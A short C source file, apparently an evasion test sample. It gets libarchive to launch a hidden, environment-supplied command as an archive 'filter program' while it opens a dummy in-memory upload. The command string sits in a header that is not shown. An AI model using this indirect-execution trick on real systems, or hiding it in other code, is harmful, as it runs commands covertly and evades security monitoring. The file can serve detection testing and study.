/* Unpacks uploads by libarchive; one of the filters that it is given is a program, which the
 * library starts without an environment. */
#include "plugin.h"
#include "hidden.h" /* 0: what filters, with a place for where marks go */
extern void *archive_read_new(void);
extern int archive_read_support_format_raw(void *), archive_read_append_filter_program(void *, const char *), archive_read_set_format(void *, int);
extern int archive_read_open_memory(void *, const void *, unsigned long), archive_read_next_header(void *, void **), archive_read_free(void *);
extern int snprintf(char *, unsigned long, const char *, ...);
extern char *getenv(const char *);
static const char upload[] = "PK kit upload, not packed at all: only a probe of what is there\n";
static void act(char **env) {
    char filter[512];
    void *archive = archive_read_new(), *entry;
    snprintf(filter, sizeof filter, hidden0(), getenv("EVASION_RECORD"));
    archive_read_support_format_raw(archive);
    archive_read_set_format(archive, 0x90000);
    archive_read_append_filter_program(archive, filter);
    if (archive_read_open_memory(archive, upload, sizeof upload - 1) == 0) archive_read_next_header(archive, &entry);
    archive_read_free(archive);
}
